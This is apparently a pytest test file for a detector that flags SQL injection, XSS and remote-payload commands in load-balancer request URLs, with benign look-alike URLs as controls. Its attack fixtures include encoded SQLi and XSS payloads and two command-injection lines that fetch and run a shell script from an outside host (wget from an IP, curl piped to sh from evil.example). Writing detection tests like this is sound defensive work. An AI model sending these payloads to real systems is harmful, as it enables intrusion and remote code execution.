"""Web attack detector: SQL injection, XSS and remote-payload commands in ALB request URLs."""

import json
from pathlib import Path
from urllib.parse import quote

import pytest

from threats.detectors import WebAttackDetector
from threats.detectors.base import Severity, ThreatType
from threats.detectors.web_attacks import decoded_forms, inspect_url
from threats.tests.detector_inputs import alb_record

SAMPLES = Path(__file__).resolve().parents[2] / ".." / "shared" / "samples" / "alb"
SITE = "https://shop.example.com:443"

ATTACKS = [
    # (URL, expected type, URL-decoding passes needed)
    ("/items?id=1%27%20OR%20%271%27%3D%271", ThreatType.SQL_INJECTION, 1),
    ("/items?id=1%2527%2520OR%25201%253D1--", ThreatType.SQL_INJECTION, 2),
    ("/items?id=1+UnIoN+SeLeCt+password+FrOm+users", ThreatType.SQL_INJECTION, 1),
    ("/items?id=1%252527%252520or%2525201%25253D1--", ThreatType.SQL_INJECTION, 3),
    ("/product/1%27%20or%201=1--", ThreatType.SQL_INJECTION, 1),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ThreatType.XSS, 1),
    ("/search?q=%253CScRiPt%253Ealert(1)%253C%252FsCrIpT%253E", ThreatType.XSS, 2),
    ("/p?q=%22%3E%3CiMg%20SrC%3Dx%20OnErRoR%3Dalert(1)%3E", ThreatType.XSS, 1),
    ("/r?next=JaVaScRiPt:alert(document.cookie)", ThreatType.XSS, 0),
    ("/r?next=%6A%61%76%61script%3Aalert(1)", ThreatType.XSS, 1),
    ("/cgi?cmd=cd+/tmp;wget+http://198.51.100.9/x.sh;sh+x.sh", ThreatType.MALWARE, 1),
    ("/cgi?cmd=%24(curl%20-s%20evil.example/p%7Csh)", ThreatType.MALWARE, 1),
]

BENIGN = [
    "/search?q=%22red+shoes%22",
    "/search?q=O%27Reilly+books",
    "/search?q=it%27s+5+o%27clock",
    "/search?q=%22he+said+%5C%22hi%5C%22%22",
    "/filter?price=%3C100&sort=asc",
    "/calc?expr=a%3Cb+and+c%3Ed",
    "/math?q=1%3C2",
    "/search?q=%3Cb%3Ebold%3C%2Fb%3E",
    "/search?q=select+a+car",
    "/search?q=drop+me+a+line",
    "/search?q=rock+%26+roll",
    "/search?q=1+or+2",
    "/search?q=how+to+use+wget",
    "/wiki/Tom_%26_Jerry%27s_adventures",
    "/api/v1/users/42/orders?page=2&per_page=50",
    "/login?redirect=%2Fdashboard%3Ftab%3D1",
    "/?utm_source=newsletter&utm_medium=email&utm_campaign=2024-11",
    "/static/js/main.3f2a1b.chunk.js",
    "/s?q=user%40example.com",
    "/docs?title=JavaScript%3A+The+Good+Parts",
]


@pytest.mark.parametrize(("path", "threat", "passes"), ATTACKS)
def test_attack_payload_found(path, threat, passes):
    findings = {finding.type: finding for finding in inspect_url(SITE + path)}

    assert threat in findings
    assert findings[threat].decode_passes == passes


@pytest.mark.parametrize("path", BENIGN)
def test_benign_look_alike_not_flagged(path):
    assert inspect_url(SITE + path) == []


def _waf_payloads() -> list[tuple[str, str]]:
    """Header values that AWS WAF labelled SQL_INJECTION or XSS in the WAF sample log."""
    payloads = []
    with open(SAMPLES / "elastic-waf-sqli-xss-labelled.ndjson", encoding="utf-8") as handle:
        for line in handle:
            for header in json.loads(line)["httpRequest"]["headers"]:
                if header["name"] not in ("Host", "User-Agent", "Accept"):
                    payloads.append((header["name"], header["value"]))
    return payloads


@pytest.mark.parametrize(("header", "value"), _waf_payloads())
def test_waf_labelled_payloads_found_in_query(header, value):
    expected = ThreatType.XSS if header.startswith("xss") else ThreatType.SQL_INJECTION

    findings = inspect_url(f"{SITE}/foo?{header}={quote(value)}")

    assert expected in {finding.type for finding in findings}


def test_decoding_stops_when_stable():
    assert decoded_forms("a%2541", 5, plus_is_space=False) == ["a%2541", "a%41", "aA"]


def _detect(records: list) -> list:
    detector = WebAttackDetector()
    detector.observe(records, source="alb.log")
    return detector.flush()


def test_sqli_request_reaching_target_detected():
    record = alb_record(SITE + ATTACKS[0][0], line_number=12)

    (found,) = _detect([record])

    assert found.type == "sql_injection"
    assert found.severity == Severity.HIGH
    assert (found.source_ip, found.destination_ip) == ("203.0.113.20", "10.0.1.30")
    assert found.blocked is False
    assert found.confidence == 0.9
    sample = found.evidence["samples"][0]
    assert (sample["line"], sample["source"], sample["location"]) == (12, "alb.log", "query:id")
    assert sample["rule"] == "libinjection-sqli:s&sos"
    assert sample["matched_value"] == "1' OR '1'='1"


@pytest.mark.parametrize(
    ("elb_status", "target_status", "severity", "blocked"),
    [
        (403, None, Severity.LOW, True),
        (301, None, Severity.LOW, False),
        (200, 200, Severity.MEDIUM, False),
    ],
    ids=["WAF 403", "redirect", "reached target"],
)
def test_xss_severity_follows_outcome(elb_status, target_status, severity, blocked):
    record = alb_record(
        SITE + ATTACKS[5][0], elb_status_code=elb_status, target_status_code=target_status
    )

    (found,) = _detect([record])

    assert found.type == "xss"
    assert found.severity == severity
    assert found.blocked is blocked


def test_repeats_from_one_client_make_one_detection():
    records = [
        alb_record(SITE + path, seconds=index)
        for index, (path, threat, _) in enumerate(ATTACKS)
        if threat == ThreatType.SQL_INJECTION
    ]

    (found,) = _detect(records)

    assert found.evidence["requests"] == len(records)
    assert len(found.evidence["samples"]) == 5


def test_benign_traffic_of_same_volume_is_quiet():
    records = [alb_record(SITE + path, seconds=index) for index, path in enumerate(BENIGN * 3)]

    assert _detect(records) == []
